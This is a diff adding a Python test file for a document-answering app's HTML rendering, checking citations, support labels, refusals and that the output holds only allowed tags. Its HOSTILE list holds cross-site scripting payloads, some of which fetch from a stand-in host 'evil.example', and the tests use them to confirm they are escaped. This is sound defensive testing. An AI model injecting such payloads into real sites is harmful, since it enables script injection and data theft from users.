@@ -1,0 +1,150 @@
+"""What an answer looks like, and that nothing in it can load or run."""
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from rag.core.types import Answer, Citation, Document, Passage, Refusal, Sentence, Span, Support, Usage
+from rag.ui import strings
+from rag.ui.answer_view import answer_html, running_html, sources, stopped_html
+from rag.ui.markup import Run, flow, lines
+
+DOCUMENT = Document("d" * 64, "handbook.pdf", "application/pdf", "Handbook", "en", 20, 40, 1000, 0.0)
+OURS = {
+    "article", "b", "bdi", "blockquote", "br", "button", "dd", "details", "div", "dl", "dt", "footer", "h2", "h3", "li",
+    "ol", "p", "path", "q", "section", "span", "strong", "summary", "sup", "svg", "ul",
+}  # fmt: skip
+HOSTILE = [
+    '<img src="http://evil.example/x.png" onerror="fetch(1)">',
+    "![pixel](http://evil.example/pixel.png)",
+    "<script>fetch('http://evil.example')</script>",
+    "[click](javascript:alert(1))",
+    '" onmouseover="alert(1)" x="',
+    "<style>@import url(http://evil.example)</style>",
+    "</span></p><iframe src=//evil.example></iframe>",
+]
+
+
+class Tags(HTMLParser):
+    """All tags, attributes and text of a piece of markup."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: dict[str, list[str]] = {}
+        self.text = ""
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        for name, value in attrs:
+            self.attributes.setdefault(name, []).append(value or "")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def cite(page: int, start: int = 0, key: str = "[1]") -> Citation:
+    return Citation(key, DOCUMENT.id, DOCUMENT.name, Span(page, start, start + 5), "words", verified=True)
+
+
+def make(*sentences: Sentence, refusal: Refusal | None = None, model: str = "qwen3:4b", question: str = "Q?") -> Answer:
+    citations = tuple(dict.fromkeys(citation for sentence in sentences for citation in sentence.citations))
+    passage = Passage("[1]", DOCUMENT, ("Vaccines", "Open vials"), (Span(14, 0, 5),), "words", (), 1.0, 0.62, ("c",))
+    timings = {"search": 0.04, "total": 12.3}
+    text = " ".join(sentence.text for sentence in sentences)
+    return Answer(
+        question, question, "en", text, sentences, citations, (passage,), refusal, model, Usage(900, 60, 4096), timings
+    )
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_hostile_words_stay_words(hostile: str) -> None:
+    sentence = Sentence(hostile, Support.NOT_FOUND, (cite(14),), reason=hostile)
+    answer = make(sentence, question=hostile)
+    refusal = Refusal("not_in_documents", hostile, (cite(2),), 3)
+    for html in (
+        answer_html(answer),
+        answer_html(make(refusal=refusal)),
+        running_html(hostile, hostile, hostile, [hostile]),
+        stopped_html(hostile, hostile),
+    ):
+        seen = Tags(html)
+        assert set(seen.tags) <= OURS
+        assert not [name for name in seen.attributes if name.startswith("on") or name in ("src", "href", "style")]
+    assert hostile in Tags(answer_html(answer)).text
+
+
+@given(st.lists(st.tuples(st.text(max_size=60), st.sampled_from([" ", "\n", "\n\n"])), max_size=6), st.booleans())
+def test_flow_makes_only_our_tags_and_keeps_every_word(pieces: list[tuple[str, str]], strong: bool) -> None:
+    html = flow(lines((Run(words, chips="<sup>1</sup>"), separator) for words, separator in pieces), strong=strong)
+    assert set(Tags(html).tags) <= OURS
+    letters = [char for words, _ in pieces for char in words if char.isalpha()]
+    assert [char for char in Tags(html).text if char.isalpha()] == letters
+
+
+def test_chips_number_pages_and_stay_with_the_last_word() -> None:
+    answer = make(
+        Sentence("A vial may be kept for 28 days.", Support.SUPPORTED, (cite(14), cite(14, 9))),
+        Sentence("Write the date on it.", Support.SUPPORTED, (cite(15),)),
+    )
+    assert [(source.number, source.first.page) for source in sources(answer)] == [(1, 14), (2, 15)]
+    html = answer_html(answer)
+    assert html.count('class="chip"') == 2
+    assert '<span class="keep">days.<sup>' in html
+    assert 'aria-label="Source 2: handbook.pdf, p. 15"' in html
+    assert "checked: 2 of 2 sentences found in the documents" in html
+    assert "Open vials" in html
+
+
+def test_support_is_said_in_words() -> None:
+    html = answer_html(
+        make(
+            Sentence("Keep it 30 days.", Support.CONTRADICTED, (), "the document says 28 days"),
+            Sentence("It is blue.", Support.NOT_FOUND),
+        )
+    )
+    assert f"{strings.CONTRADICTED}: the document says 28 days" in html
+    assert strings.NOT_FOUND in html
+    assert "checked: 0 of 2 sentences" in html
+
+
+def test_quoted_answers_set_the_answering_words_in_bold_and_keep_asterisks() -> None:
+    html = answer_html(
+        make(Sentence("“Use **within** 28 days.”", Support.SUPPORTED, emphasis=((16, 23),)), model="none")
+    )
+    assert "<strong>28 days</strong>" in html
+    assert "**within**" in html
+
+
+def test_lists_of_a_model_are_lists() -> None:
+    first = Sentence("- Wash your hands.", Support.SUPPORTED, (cite(14),), separator="\n")
+    second = Sentence("- Put on **gloves**.", Support.SUPPORTED, (cite(14),))
+    html = answer_html(make(first, second))
+    assert html.count('<ul dir="auto"><li') == 1
+    assert "<strong>gloves</strong>" in html
+    assert "- Wash" not in html.split("<footer")[0]
+
+
+def test_a_refusal_shows_what_came_nearest_and_what_was_searched() -> None:
+    html = answer_html(make(refusal=Refusal("not_in_documents", "The documents do not say.", (cite(3),), 1204)))
+    assert "The documents do not say." in html
+    assert "1,204 passages searched." in html
+    assert f'data-value="{DOCUMENT.id}:3:0:5"' in html
+
+
+def test_how_it_was_found_is_in_words() -> None:
+    html = answer_html(make(Sentence("Yes.", Support.SUPPORTED)))
+    assert "very near in meaning (62% alike)" in html
+    assert "960 of 4,096 tokens used, 23% full" in html
+    assert "searching less than 0.1 seconds, in all 12 seconds" in html
+
+
+def test_words_in_the_making_hide_half_come_citations() -> None:
+    html = running_html("Q?", strings.reading(6, 3), "A vial may be kept [1] for 28 days [", ())
+    assert "A vial may be kept for 28 days" in html
+    assert "[" not in html
+    assert "Reading 6 passages from 3 documents" in html
